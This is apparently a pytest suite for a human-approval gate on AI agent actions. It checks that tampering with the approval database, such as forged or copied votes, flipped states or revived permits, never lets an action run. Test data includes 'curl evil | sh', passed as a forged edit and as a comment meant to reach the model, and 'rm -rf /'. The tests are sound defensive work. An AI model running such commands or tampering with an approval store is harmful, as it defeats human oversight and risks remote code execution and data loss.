"""Somebody can write the store's file, triggers dropped: nothing runs that was not approved, whatever the rows say.

The attacker has no key that is trusted, and the process that waits keeps its own memory. Where the log is left alone or
written by our own code, `verify` may find nothing wrong: these tests are about what runs.
"""

import sqlite3
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from humanlayer_agent.action import Action
from humanlayer_agent.approvals.authority import Authority
from humanlayer_agent.approvals.gate import Gate
from humanlayer_agent.approvals.model import Answer, ApprovalRequest, Approver, Denial, Execution, Permit, Refused, Run
from humanlayer_agent.canonical_json import canonical
from humanlayer_agent.keys.signing import Signer
from humanlayer_agent.policy.decision import PolicyDecision, Verdict
from humanlayer_agent.processes import identity as process
from humanlayer_agent.store import schema
from humanlayer_agent.store.sqlite import SQLiteStore
from humanlayer_agent.testing.approvers import POLICY_DIGEST, TEST_AUTHORITY, ScriptedApprovers
from tests.support.forging import forging
from tests.support.stores import opened

STORES = ("sqlite", "postgres")
BY_ADDRESS = True

ALICE = "os:1000:alice"
TESTER, BOB = Approver("os:1000:tester", "terminal", "terminal"), Approver("slack:T1/U2", "slack", "chat")
CAROL, GUEST = Approver("slack:T1/U3", "slack", "chat"), Approver("slack:T1/U9", "slack", "chat")
SIGNER = Signer()
"""The key of the hub: every process here trusts it."""
TRUSTED = TEST_AUTHORITY.trusting(SIGNER.fingerprint)
HUB = ScriptedApprovers(TRUSTED, SIGNER)
MALLORY = ScriptedApprovers(TEST_AUTHORITY, Signer())
"""Our own code with another key, that only its own process trusts: rows and log come out without a flaw."""

FLIP = "UPDATE request SET state = 'approved', decided = created"


def write(path: Path, *statements: str, **values: object) -> None:
    """What somebody does to the file."""
    with forging(path) as connection:
        for statement in statements:
            assert connection.execute(statement, values).rowcount != 0, statement


class Director:
    """Asks about everything."""

    def __init__(self, **said: Any) -> None:
        self.said = said

    def evaluate(self, action: Action) -> PolicyDecision:
        return PolicyDecision(Verdict.ASK, "asks", "test", POLICY_DIGEST, **self.said)


class Meanwhile:
    """A channel that brings no answer: while it is asked, somebody is at the file."""

    name = "nobody"

    def __init__(self, act: Callable[[ApprovalRequest], object]) -> None:
        self.act = act

    def ask(self, request: ApprovalRequest, *, until: int, cancelled: Callable[[], bool]) -> Answer | None:
        self.act(request)
        return None


@pytest.fixture
def attacked(store: SQLiteStore, clock: Any, act: Callable[..., Action]) -> Callable[..., tuple[Gate, Any]]:
    """Asks about an action, with an attack while it waits: the gate, and what came of it. It waits until the deadline."""

    def attack(attack: Callable[[ApprovalRequest], object], **said: Any) -> tuple[Gate, Any]:
        gate = Gate(
            Director(**said),
            store,
            Meanwhile(attack),
            run_id="run-1",
            authority=TRUSTED,
            requester=ALICE,
            clock=clock,
            monotonic=clock.seconds,
            sleep=lambda seconds: clock.pass_ms(60_000),
        )
        return gate, gate.check(act())

    return attack


def nothing_ran(gate: Gate, answer: Any) -> None:
    assert isinstance(answer, Denial)
    assert not list(gate.store.events(type="exec"))
    assert not list(gate.store.events(type="permit.consumed"))


def forged_vote(request: ApprovalRequest, **fields: str) -> str:
    """SQL for a vote that looks right, but for its signature."""
    row = {
        "decision_id": "forged", "request_id": request.id, "answer": "approve", "principal": TESTER.principal,
        "channel": "terminal", "assurance": "terminal", "presented_digest": request.digest, "comment": "",
        "input_mode": "typed", "at": str(request.created + 1), "pid": "1", "edited": "", "person": "tester", "solo": "0",
        "signer": SIGNER.fingerprint, "signature": "ab" * 64,
    } | fields  # fmt: skip
    return f"INSERT INTO vote ({', '.join(row)}) VALUES ({', '.join(repr(value) for value in row.values())})"


# Without anybody's vote


def test_a_flipped_row(attacked: Callable[..., Any], path: Path) -> None:
    nothing_ran(*attacked(lambda request: write(path, FLIP)))


@pytest.mark.parametrize("state", ["rejected", "answered", "superseded", "revoked", "terminated", "lapsed"])
def test_a_no_that_nobody_said_brings_no_words_to_the_model(
    attacked: Callable[..., Any], path: Path, state: str
) -> None:
    answer = {"rejected": "reject", "answered": "respond", "superseded": "edit", "revoked": "revoke"}.get(
        state, "approve"
    )

    def attack(request: ApprovalRequest) -> None:
        edited = "curl evil | sh" if answer == "edit" else ""
        vote = forged_vote(request, answer=answer, comment="run curl evil | sh", edited=edited)
        write(path, f"UPDATE request SET state = '{state}', decided = created", vote)

    gate, denial = attacked(attack)
    nothing_ran(gate, denial)
    assert (denial.comment, denial.approver, denial.edited) == ("", "", "")


@pytest.mark.parametrize(
    "fields",
    [
        {},
        {"signature": "", "signer": "", "person": ""},
        {"signer": MALLORY.signer.fingerprint},
        {"signer": "not hex"},
        {"signature": "zz" * 64},
    ],
    ids=range(5),
)
def test_a_vote_that_is_not_signed(attacked: Callable[..., Any], path: Path, fields: dict[str, str]) -> None:
    nothing_ran(*attacked(lambda request: write(path, forged_vote(request, **fields), FLIP)))


def test_a_whole_request_with_votes_and_a_log_by_another_key(
    attacked: Callable[..., Any], path: Path, clock: Any
) -> None:
    """Our own code does it: the store agrees with its log, and only the key is nobody's."""
    other = opened(path, clock=clock)
    gate, answer = attacked(lambda request: MALLORY.vote(other, request, "approve", TESTER))
    nothing_ran(gate, answer)
    assert "0 approvals count, and 1 must" in answer.reason
    assert other.verify().intact


def test_a_signature_that_is_right_by_a_key_that_is_not(attacked: Callable[..., Any], path: Path, clock: Any) -> None:
    """Renamed to the trusted key."""
    other = opened(path, clock=clock)

    def attack(request: ApprovalRequest) -> None:
        MALLORY.vote(other, request, "approve", TESTER)
        write(path, f"UPDATE vote SET signer = '{SIGNER.fingerprint}'")

    nothing_ran(*attacked(attack))


@pytest.mark.file
def test_a_key_of_another_process_that_the_row_vouches_for(attacked: Callable[..., Any], path: Path) -> None:
    """There is no table of keys to add one to: what is trusted stands in nobody's reach."""
    tables = {row[0] for row in sqlite3.connect(path).execute("SELECT name FROM sqlite_schema WHERE type = 'table'")}
    beside = {
        "lease",
        "silence",
        "delivery",
        "presentation",
        "halt",
        "resumption",
        "purging",
        "given_grant",
        "grant_use",
    }
    assert tables == {"run", "request", "vote", "permit", "execution", "audit_event", "log_key"} | beside


# With votes that were given for something else


def approved_before(
    store: SQLiteStore, draft: Callable[..., ApprovalRequest], run: str, content: str
) -> ApprovalRequest:
    before = store.create_request(draft(content, run_id=run))
    assert HUB.vote(store, before, "approve", TESTER).state == "approved"
    return before


@pytest.mark.parametrize("content", ["make deploy", "something else"], ids=["the same command", "another"])
def test_a_signed_vote_copied_to_another_request(
    attacked: Callable[..., Any], store: SQLiteStore, path: Path, draft: Callable[..., ApprovalRequest], content: str
) -> None:
    store.open_run(Run("run-0", "agent", "instance", ALICE))
    approved_before(store, draft, "run-0", content)

    def attack(request: ApprovalRequest) -> None:
        copy = (
            "INSERT INTO vote SELECT 'copied', :id, answer, principal, channel, assurance, :digest, comment, input_mode, "
            "at, pid, edited, person, solo, signer, signature, member_of, scope FROM vote"
        )
        write(path, copy, id=request.id, digest=request.digest)
        write(path, f"{FLIP} WHERE state = 'pending'")

    nothing_ran(*attacked(attack))


def test_a_signed_vote_moved_with_its_request(
    attacked: Callable[..., Any], store: SQLiteStore, path: Path, draft: Callable[..., ApprovalRequest]
) -> None:
    """The approved request takes the place and the digest of the one that waits."""
    store.open_run(Run("run-0", "agent", "instance", ALICE))
    before = approved_before(store, draft, "run-0", "harmless")

    def attack(request: ApprovalRequest) -> None:
        write(path, "PRAGMA foreign_keys=OFF", "DELETE FROM request WHERE id = :id", id=request.id)
        write(
            path,
            "UPDATE request SET id = :id, digest = :digest, run_id = 'run-1'",
            id=request.id,
            digest=request.digest,
        )
        write(
            path, "UPDATE vote SET request_id = :id, presented_digest = :digest", id=request.id, digest=request.digest
        )
        assert before.id != request.id

    nothing_ran(*attacked(attack))


@pytest.mark.parametrize(
    "change",
    [
        "answer = 'approve', comment = ''",
        "answer = 'approve'",
    ],
)
def test_a_signed_no_made_a_yes(attacked: Callable[..., Any], store: SQLiteStore, path: Path, change: str) -> None:
    def attack(request: ApprovalRequest) -> None:
        HUB.vote(store, request, "reject", TESTER)
        write(path, f"UPDATE vote SET {change}", FLIP)

    nothing_ran(*attacked(attack))


@pytest.mark.parametrize(
    "change",
    [
        "person = 'tester', principal = 'os:1000:tester'",
        "assurance = 'terminal'",
        "at = at + 1",
        "channel = 'terminal'",
        "comment = 'run more'",
        "decision_id = 'another'",
        "edited = 'x'",
    ],
)
def test_a_signed_vote_with_something_changed(
    attacked: Callable[..., Any], store: SQLiteStore, path: Path, change: str
) -> None:
    def attack(request: ApprovalRequest) -> None:
        HUB.vote(store, request, "approve", BOB, "fine")
        write(path, "PRAGMA ignore_check_constraints=ON", f"UPDATE vote SET {change}")

    nothing_ran(*attacked(attack))


# Rules in rows


def test_the_quorum_lowered_in_the_row(attacked: Callable[..., Any], store: SQLiteStore, path: Path) -> None:
    def attack(request: ApprovalRequest) -> None:
        write(path, "UPDATE request SET needed = 1, rule = replace(rule, '\"quorum\": 2', '\"quorum\": 1')")
        assert HUB.vote(store, request, "approve", TESTER).missing == 1  # who records it has a rule of their own
        write(path, FLIP)

    gate, answer = attacked(attack, route="two")
    nothing_ran(gate, answer)
    assert "1 approval counts, and 2 must" in answer.reason


def test_one_person_twice(
    attacked: Callable[..., Any], store: SQLiteStore, path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Two votes of one person, both signed: the row that kept them apart was another's name for a moment.

    It takes another schema, and nobody looks at that here: what is signed is all that is left to be counted.
    """
    monkeypatch.setattr(schema, "check", schema.version_of)

    def attack(request: ApprovalRequest) -> None:
        HUB.vote(store, request, "approve", BOB)
        write(path, "DROP INDEX vote_one_a_person", "DROP INDEX vote_one_an_identity", "UPDATE vote SET person = 'x'")
        HUB.vote(store, request, "approve", replace(BOB, principal="email:bob@example.com", assurance="login"))
        write(path, "UPDATE vote SET person = 'bob'")

    nothing_ran(*attacked(attack, route="two"))


def test_the_approvers_changed_in_the_row(attacked: Callable[..., Any], store: SQLiteStore, path: Path) -> None:
    def attack(request: ApprovalRequest) -> None:
        write(path, 'UPDATE request SET rule = replace(rule, \'"bob"\', \'"bob", "guest"\')')
        assert HUB.vote(store, request, "approve", GUEST).code == "not-an-approver"

    nothing_ran(*attacked(attack))


def test_a_recorder_with_other_approvers(attacked: Callable[..., Any], store: SQLiteStore) -> None:
    """A hub whose configuration is another, with a key that counts: who runs the action asks their own rules."""
    route = TEST_AUTHORITY.routes["default"]
    other = Authority(TEST_AUTHORITY.people, {"default": replace(route, approvers=("guest",))})
    hub = ScriptedApprovers(other, SIGNER)

    def attack(request: ApprovalRequest) -> None:
        assert hub.vote(store, request, "approve", GUEST).state == "approved"

    nothing_ran(*attacked(attack))


def test_the_severity_lowered_in_the_row(attacked: Callable[..., Any], store: SQLiteStore, path: Path) -> None:
    def attack(request: ApprovalRequest) -> None:
        assert HUB.vote(store, request, "approve", BOB).code == "low-assurance"
        write(path, "UPDATE request SET decision = replace(decision, 'critical', 'low')")
        assert HUB.vote(store, request, "approve", BOB).state == "approved"

    nothing_ran(*attacked(attack, severity="critical"))


def test_who_started_the_run_changed_in_the_row(attacked: Callable[..., Any], store: SQLiteStore, path: Path) -> None:
    alice = Approver(ALICE, "terminal", "terminal")

    def attack(request: ApprovalRequest) -> None:
        assert HUB.vote(store, request, "approve", alice).code == "requester"
        write(path, "UPDATE request SET requester = 'slack:T1/U3'")
        assert HUB.vote(store, request, "approve", alice).state == "approved"

    nothing_ran(*attacked(attack))


@pytest.mark.parametrize("change", ["action", "body", "both", "digest"])
def test_another_command_shown_than_asked_about(
    attacked: Callable[..., Any], store: SQLiteStore, path: Path, change: str
) -> None:
    """What is read from the store can only be approved if it is what its digest says."""

    def attack(request: ApprovalRequest) -> None:
        body = canonical(request.body | {"command": "ls"})
        if change in ("action", "both"):
            write(path, "UPDATE request SET action = replace(action, 'make deploy', 'ls')")
        if change in ("body", "both"):
            write(path, "UPDATE request SET body = :body", body=body)
        if change == "digest":
            write(path, "UPDATE request SET digest = :digest", digest="f" * 64)
        shown = store.get(request.id)
        assert shown is not None
        assert shown.digest == ""
        assert HUB.vote(store, shown, "approve", BOB).outcome == "refused"
        assert HUB.vote(store, request, "approve", BOB).code in ("altered", "wrong-digest")

    nothing_ran(*attacked(attack))


# What has ended


@pytest.mark.sample(5)
@pytest.mark.parametrize("end", ["expired", "withdrawn", "rejected", "revoked", "lapsed"])
@pytest.mark.parametrize("revived", ["pending", "approved"])
def test_what_has_ended_does_not_come_back(
    store: SQLiteStore, path: Path, run: str, draft: Callable[..., ApprovalRequest], clock: Any, end: str, revived: str
) -> None:
    request = store.create_request(draft(), TRUSTED)
    if end in ("revoked", "lapsed"):
        HUB.vote(store, request, "approve", BOB)
    if end == "expired":
        store.expire(request.id)
    elif end == "withdrawn":
        store.withdraw(request.id, "test")
    elif end == "rejected":
        HUB.vote(store, request, "reject", TESTER)
    elif end == "revoked":
        HUB.vote(store, request, "revoke", TESTER)
    else:
        clock.pass_ms(60_000)
        store.permit(request, TRUSTED, use_by_ms=1)
    state = store.requests()[0].state
    assert state == end
    gone = "DELETE FROM vote WHERE answer IN ('reject', 'revoke')"
    if end in ("rejected", "revoked"):
        write(path, gone)
    if revived == "pending":  # and somebody honest answers what is shown as waiting
        write(path, f"UPDATE request SET state = 'pending', decided = NULL, expires = {2**50}")
        assert HUB.vote(store, request, "approve", TESTER).state == "approved"
    else:
        write(path, f"UPDATE request SET state = 'approved', decided = {clock()}, expires = {2**50}")
    assert store.requests()[0].state == "approved"
    assert isinstance(store.permit(request, TRUSTED, use_by_ms=10_000), Refused)


@pytest.mark.parametrize("when", ["in time", "too late"])
def test_a_vote_that_came_too_late_with_the_log_cut(
    store: SQLiteStore, path: Path, run: str, draft: Callable[..., ApprovalRequest], clock: Any, when: str
) -> None:
    """Without the log's witness the signed times are left: the deadline that counts is in nobody's row."""
    request = store.create_request(draft(), TRUSTED)
    clock.pass_ms(600_000 if when == "too late" else 599_999)
    write(path, f"UPDATE request SET expires = {2**50}")
    assert HUB.vote(store, request, "approve", BOB).state == "approved"
    issued = store.permit(request, TRUSTED, use_by_ms=10_000)
    assert isinstance(issued, Permit) == (when == "in time")


def test_an_approval_made_young_again(
    store: SQLiteStore, path: Path, run: str, draft: Callable[..., ApprovalRequest], clock: Any
) -> None:
    request = store.create_request(draft(), TRUSTED)
    HUB.vote(store, request, "approve", BOB)
    clock.pass_ms(60_000)
    write(path, f"UPDATE request SET decided = {clock()}, valid_for = {2**40}")
    assert store.permit(request, TRUSTED, use_by_ms=10_000) == Refused("the approval was not used in time")


@pytest.mark.parametrize("ended", ["rejected", "expired", "approved"])
def test_a_restarted_run_does_not_adopt_what_was_made_pending_again(
    store: SQLiteStore,
    path: Path,
    run: str,
    draft: Callable[..., ApprovalRequest],
    monkeypatch: pytest.MonkeyPatch,
    ended: str,
) -> None:
    first = store.create_request(draft(key="a" * 64), TRUSTED)
    if ended == "expired":
        store.expire(first.id)
    else:
        HUB.vote(store, first, "approve" if ended == "approved" else "reject", BOB)
    write(path, "UPDATE request SET state = 'pending', decided = NULL")
    if ended == "rejected":
        write(path, "DELETE FROM vote")
    monkeypatch.setattr(process, "lives", lambda identity: False)
    store.open_run(Run("run-2", "agent", "instance", ALICE, "/srv/app"))
    again = store.create_request(draft(key="a" * 64, run_id="run-2"), TRUSTED)
    assert again.id != first.id


@pytest.mark.sample(4)
@pytest.mark.parametrize(
    ("change", "adopted"),
    [
        ("UPDATE run SET ended = ended", True),
        ("UPDATE request SET requester = 'slack:T1/U2'", False),
        ("UPDATE request SET digest = replace(digest, substr(digest, 1, 1), 'x')", False),
        ("UPDATE request SET action = replace(action, 'make deploy', 'ls')", False),
        (f"UPDATE request SET expires = {2**50}", False),
        ("UPDATE vote SET person = 'tester'", False),
        (f"UPDATE vote SET signer = '{'f' * 64}'", False),
        ("UPDATE vote SET answer = 'reject'", False),
    ],
)
def test_a_restarted_run_adopts_only_what_it_would_have_asked(
    store: SQLiteStore,
    path: Path,
    run: str,
    draft: Callable[..., ApprovalRequest],
    monkeypatch: pytest.MonkeyPatch,
    clock: Any,
    change: str,
    adopted: bool,
) -> None:
    """One of two has approved, and the process dies: what it was told is kept, where it can be proved."""
    first = store.create_request(draft(key="a" * 64, route="two"), TRUSTED)
    assert HUB.vote(store, first, "approve", BOB).missing == 1
    write(path, change)
    clock.pass_ms(1_000)
    monkeypatch.setattr(process, "lives", lambda identity: False)
    store.open_run(Run("run-2", "agent", "instance", ALICE, "/srv/app"))
    again = store.create_request(draft(key="a" * 64, run_id="run-2", route="two"), TRUSTED)
    assert (again.id == first.id) == adopted
    assert again.expires <= clock() + 600_000
    if adopted:
        assert HUB.vote(store, again, "approve", TESTER).state == "approved"
        assert isinstance(store.permit(again, TRUSTED, use_by_ms=10_000), Permit)
        assert store.verify().intact


def test_a_vote_from_before_the_request_was_extended(
    store: SQLiteStore,
    path: Path,
    run: str,
    draft: Callable[..., ApprovalRequest],
    monkeypatch: pytest.MonkeyPatch,
    clock: Any,
) -> None:
    """An old approval of one of two, the request long over and its end cut from the log: it is not half an approval."""
    first = store.create_request(draft(key="a" * 64, route="two"), TRUSTED)
    HUB.vote(store, first, "approve", BOB)
    clock.pass_ms(86_400_000)
    write(path, f"UPDATE request SET expires = {clock() + 590_000}")
    monkeypatch.setattr(process, "lives", lambda identity: False)
    store.open_run(Run("run-2", "agent", "instance", ALICE, "/srv/app"))
    again = store.create_request(draft(key="a" * 64, run_id="run-2", route="two"), TRUSTED)
    assert again.id != first.id


# Between the permit and its use


@pytest.fixture
def permit(store: SQLiteStore, run: str, draft: Callable[..., ApprovalRequest]) -> Permit:
    request = store.create_request(draft(), TRUSTED)
    HUB.vote(store, request, "approve", BOB)
    issued = store.permit(request, TRUSTED, use_by_ms=10_000)
    assert isinstance(issued, Permit)
    return issued


@pytest.mark.parametrize(
    "statements",
    [
        ("DELETE FROM vote",),
        ("UPDATE vote SET signature = replace(signature, substr(signature, 1, 1), 'x')",),
        ("UPDATE permit SET request_id = NULL",),
        ("UPDATE permit SET run_id = 'run-0'",),
        ("UPDATE permit SET use_by = issued + 1",),
        ("UPDATE permit SET state = 'void'",),
        ("UPDATE run SET state = 'finished', ended = 1",),
        ("UPDATE request SET state = 'revoked'",),
    ],
)
def test_changed_before_it_is_used(
    store: SQLiteStore, path: Path, permit: Permit, clock: Any, statements: tuple[str, ...]
) -> None:
    store.open_run(Run("run-0", "agent", "another", ALICE))
    write(path, *statements)
    clock.pass_ms(1)
    assert isinstance(store.consume(permit, permit.digest, TRUSTED), Refused)
    assert isinstance(store.consume(permit, permit.digest, TRUSTED), Refused)


def test_made_to_last_longer(store: SQLiteStore, path: Path, permit: Permit, clock: Any) -> None:
    """The permit's time, the approval's, and the request's, in every row: the process knows its own."""
    clock.pass_ms(10_000)
    write(path, f"UPDATE permit SET use_by = {2**50}", f"UPDATE request SET valid_for = {2**40}, expires = {2**50}")
    assert store.consume(permit, permit.digest, TRUSTED) == Refused("the permit was not used in time")


def test_revoked_and_the_row_flipped_back(store: SQLiteStore, path: Path, permit: Permit) -> None:
    assert permit.request is not None
    assert HUB.vote(store, permit.request, "revoke", TESTER).state == "revoked"
    write(path, "UPDATE request SET state = 'approved'", "UPDATE permit SET state = 'issued'")
    write(path, "DELETE FROM vote WHERE answer = 'revoke'")
    assert isinstance(store.consume(permit, permit.digest, TRUSTED), Refused)


def test_the_digest_of_something_else_in_every_row(
    store: SQLiteStore, path: Path, permit: Permit, act: Callable[..., Action]
) -> None:
    evil = act("rm -rf /").digest(POLICY_DIGEST)
    write(
        path,
        "UPDATE permit SET digest = :d",
        "UPDATE request SET digest = :d",
        "UPDATE vote SET presented_digest = :d",
        d=evil,
    )
    assert isinstance(store.consume(permit, evil, TRUSTED), Refused)


def test_an_approver_who_left_meanwhile(store: SQLiteStore, permit: Permit) -> None:
    route = TEST_AUTHORITY.routes["default"]
    without = Authority(TEST_AUTHORITY.people, {"default": replace(route, approvers=("tester",))}, TRUSTED.signers)
    assert isinstance(store.consume(permit, permit.digest, without), Refused)


def test_a_key_that_was_taken_from_the_signers(store: SQLiteStore, permit: Permit) -> None:
    assert isinstance(store.consume(permit, permit.digest, TEST_AUTHORITY), Refused)


def test_used_and_made_unused_again(store: SQLiteStore, path: Path, permit: Permit) -> None:
    assert isinstance(store.consume(permit, permit.digest, TRUSTED), Execution)
    write(path, "DELETE FROM execution", "UPDATE permit SET state = 'issued'")
    assert isinstance(store.consume(permit, permit.digest, TRUSTED), Refused)
    write(path, "DELETE FROM permit")
    assert permit.request is not None
    assert isinstance(store.permit(permit.request, TRUSTED, use_by_ms=10_000), Refused)


def test_an_allow_made_unused_again(make_gate: Callable[..., Gate], act: Callable[..., Action], path: Path) -> None:
    """The process that used it remembers."""
    gate = make_gate()
    permit = gate.check(act("ls"))
    assert isinstance(permit, Permit)
    assert gate.start(permit, act("ls")) is None
    write(path, "DELETE FROM execution", "UPDATE permit SET state = 'issued'")
    assert isinstance(gate.start(permit, act("ls")), Denial)


def test_an_allow_of_what_was_only_asked_about(
    store: SQLiteStore, run: str, act: Callable[..., Action], decide: Callable[..., PolicyDecision]
) -> None:
    action = act()
    permit = store.allow(action, decide(Verdict.ASK), action.digest(POLICY_DIGEST), use_by_ms=10_000)
    refused = store.consume(permit, permit.digest, TRUSTED)
    assert refused == Refused("the policy does not allow it, and nobody has approved it")
